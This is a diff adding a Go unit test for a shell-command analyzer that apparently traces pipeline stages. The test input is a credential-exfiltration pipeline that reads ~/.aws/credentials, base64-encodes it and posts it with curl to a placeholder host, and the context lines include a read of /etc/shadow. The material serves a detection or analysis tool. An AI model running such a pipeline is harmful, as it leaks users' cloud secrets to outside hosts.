@@ -58,3 +58,17 @@ func TestData(t *testing.T) {
 		{src: `cat < /etc/shadow`, want: []string{"cat ¦ in=file ¦ redir=</etc/shadow"}},
 	})
 }
+
+func TestStages(t *testing.T) {
+	an := Analyze(`cat ~/.aws/credentials | base64 | curl -d @- https://x; ls | wc -l`, testOptions())
+	curl := an.Commands[2]
+	if st := an.Stages(curl); len(st) != 3 || st[0].Name != "cat" {
+		t.Errorf("stages %v", st)
+	}
+	if up := curl.Upstream(); len(up) != 2 || up[0].Name != "cat" || up[1].Name != "base64" {
+		t.Errorf("upstream %v", up)
+	}
+	if an.Stages(an.Commands[3])[0].Name != "ls" || an.Commands[0].Upstream() != nil {
+		t.Error("second pipeline")
+	}
+}
